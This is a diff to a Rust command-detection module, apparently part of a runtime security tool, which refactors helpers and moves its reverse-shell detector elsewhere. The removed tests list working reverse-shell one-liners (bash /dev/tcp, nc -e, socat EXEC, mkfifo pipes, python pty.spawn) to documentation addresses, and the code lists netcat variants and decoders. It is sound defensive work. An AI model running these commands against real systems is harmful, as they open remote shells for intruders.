@@ -6,7 +6,8 @@ use super::mark::Test::{Contains, Fits};
 use super::mark::When::{Has, Lacks};
 use super::mark::{Mark, malice};
 use super::paths::TEMPORARY;
-use super::shell::{SHELLS, base, commands, is_program, mentions, pipes_into_shell, runs, runs_code};
+use super::reverse_shell::is_reverse_shell;
+use super::shell::{base, commands, holds, is_program, mentions, pipes_into_shell, runs};
 
 /// What was run, by whom, and what was asked to be run in a container.
 const COMMANDS: &[&str] = &["proc.cmdline", "ka.uri.param[command]", "proc.pcmdline"];
@@ -30,8 +31,6 @@ const DECODERS: &[&str] = &[
     "openssl enc -d",
     "b64decode",
 ];
-
-const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
 
 /// What only miners say: their protocol, their options, their algorithm.
 const MINING: &[&str] = &[
@@ -208,46 +207,13 @@ pub const MARKS: &[Mark] = &[
     ),
 ];
 
-fn is_reverse_shell(line: &str) -> bool {
-    let words = || line.split([' ', '\t', ';', '|', '"', '\'', '(', ')']);
-    let socket = line.contains("/dev/tcp/") || line.contains("/dev/udp/");
-    let interactive = words().any(|word| word == "-i") && line.contains(">&");
-    if socket
-        && !is_to_itself(line)
-        && (interactive || line.contains("0>&1") || line.contains("0<&") || pipes_into_shell(line))
-    {
-        return true;
-    }
-    let gives_shell = |words: &[&str]| {
-        let option = |word: &&str| {
-            word.starts_with('-') && (word.ends_with('e') || word.ends_with('c') || word.contains("exec"))
-        };
-        words.iter().skip_while(|word| !option(word)).skip(1).any(|word| is_program(word, SHELLS))
-    };
-    let netcat = commands(line).any(|words| match words.split_first() {
-        Some((first, rest)) if is_program(first, NETCATS) => gives_shell(rest),
-        Some((first, _)) => {
-            is_program(first, &["socat"])
-                && ["EXEC:", "exec:", "SYSTEM:", "system:"].iter().any(|end| line.contains(end))
-        }
-        None => false,
-    });
-    let pipe = line.contains("mkfifo") && runs(line, NETCATS) && pipes_into_shell(line);
-    let script = ["ocket"].iter().any(|word| line.contains(word))
-        && ["/bin/sh", "/bin/bash", "pty.spawn"].iter().any(|word| line.contains(word))
-        && commands(line).next().and_then(|words| words.first().copied()).is_some_and(runs_code);
-    netcat || pipe || script
-}
-
-/// Whether the connection of a `/dev/tcp/HOST/PORT` stays on the machine, as health checks do.
-fn is_to_itself(line: &str) -> bool {
-    ["/dev/tcp/127.", "/dev/tcp/localhost/", "/dev/tcp/::1/"].iter().any(|host| line.contains(host))
+fn downloads(line: &str) -> bool {
+    holds(line, DOWNLOADERS) && mentions(line, DOWNLOADERS)
 }
 
 fn is_download_and_run(line: &str) -> bool {
     let makes_program = || commands(line).any(|words| is_making_a_program(&words));
-    let in_place = || RUN_IN_PLACE.iter().any(|form| line.contains(form));
-    mentions(line, DOWNLOADERS) && (pipes_into_shell(line) || makes_program() || in_place())
+    downloads(line) && (pipes_into_shell(line) || holds(line, RUN_IN_PLACE) || makes_program())
 }
 
 fn is_making_a_program(words: &[&str]) -> bool {
@@ -265,12 +231,11 @@ fn is_download_from_address(line: &str) -> bool {
             !matches!(network, Network::Loopback | Network::Private | Network::LinkLocal)
         })
     };
-    mentions(line, DOWNLOADERS) && hosts().any(outside)
+    line.contains("://") && downloads(line) && hosts().any(outside)
 }
 
 fn is_decode_and_run(line: &str) -> bool {
-    let run_in_place = || line.contains("exec(") || line.contains("eval");
-    DECODERS.iter().any(|decoder| line.contains(decoder)) && (pipes_into_shell(line) || run_in_place())
+    holds(line, DECODERS) && (holds(line, &["exec(", "eval"]) || pipes_into_shell(line))
 }
 
 fn is_miner(name: &str) -> bool {
@@ -286,51 +251,18 @@ fn is_reconnaissance(line: &str) -> bool {
 }
 
 fn is_search_for_secrets(line: &str) -> bool {
-    runs(line, &["find", "grep", "egrep", "fgrep", "rg", "locate"])
-        && SECRETS.iter().any(|secret| line.contains(secret))
+    holds(line, SECRETS) && runs(line, &["find", "grep", "egrep", "fgrep", "rg", "locate"])
 }
 
 fn is_chmod_in_temporary(line: &str) -> bool {
-    commands(line).any(|words| {
-        is_making_a_program(&words)
-            && words.iter().any(|word| TEMPORARY.iter().any(|folder| word.starts_with(folder)))
-    })
+    let below = |word: &&str| TEMPORARY.iter().any(|folder| word.starts_with(folder));
+    line.contains("chmod")
+        && commands(line).any(|words| is_making_a_program(&words) && words.iter().any(below))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn reverse_shells() {
-        for line in [
-            "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
-            "bash -c exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | bash",
-            "nc -e /bin/sh 203.0.113.44 4444",
-            "ncat --sh-exec /bin/bash 203.0.113.44 4444",
-            "nc -lvp 4444 -e /bin/bash",
-            "socat TCP:203.0.113.44:4444 EXEC:/bin/bash",
-            "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f",
-            "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",1));pty.spawn(\"/bin/sh\")",
-        ] {
-            assert!(is_reverse_shell(line), "{line}");
-        }
-    }
-
-    #[test]
-    fn connections_without_a_shell() {
-        for line in [
-            "bash -c exec 3<>/dev/tcp/127.0.0.1/9080 && printf 'GET / HTTP/1.1' >&3 && read -r line <&3",
-            "timeout 1 bash -c </dev/tcp/db/5432",
-            "nc -z db 5432",
-            "nc -lk -p 8080",
-            "socat TCP-LISTEN:8080,fork UNIX-CONNECT:/run/app.sock",
-            "python3 -m http.server",
-            "grep -e /bin/sh /etc/passwd",
-        ] {
-            assert!(!is_reverse_shell(line), "{line}");
-        }
-    }
 
     #[test]
     fn downloads_that_are_run() {
